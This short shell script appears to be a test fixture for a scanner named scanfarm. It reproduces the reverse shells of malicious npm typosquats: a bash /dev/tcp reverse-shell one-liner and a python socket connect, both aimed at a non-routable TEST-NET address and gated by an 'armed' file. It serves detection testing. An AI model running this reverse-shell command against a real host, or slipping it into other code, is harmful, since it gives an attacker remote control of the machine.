# Simulates the reverse shells of malicious npm typosquats, whose install
# scripts ran `bash -i >& /dev/tcp/HOST/PORT 0>&1` or a python socket
# one-liner to hand the attacker a shell.
# What this does instead, harmlessly: both are pointed at 203.0.113.5
# (TEST-NET-3). The sandbox has no route there, so each connect fails with
# ENETUNREACH before any shell is started; `timeout` bounds them anyway.
[ -f "$(dirname "$0")/armed" ] || { echo "attack-reverse-shell: not armed by scanfarm's tests, doing nothing"; exit 0; }
timeout 5 bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' </dev/null 2>/dev/null ||
  echo "attack-reverse-shell: bash /dev/tcp connect failed, as expected"
timeout 5 python3 -c 'import socket; s = socket.socket(); s.settimeout(3); s.connect(("203.0.113.5", 4445))' 2>/dev/null ||
  echo "attack-reverse-shell: python one-liner connect failed, as expected"
exit 0
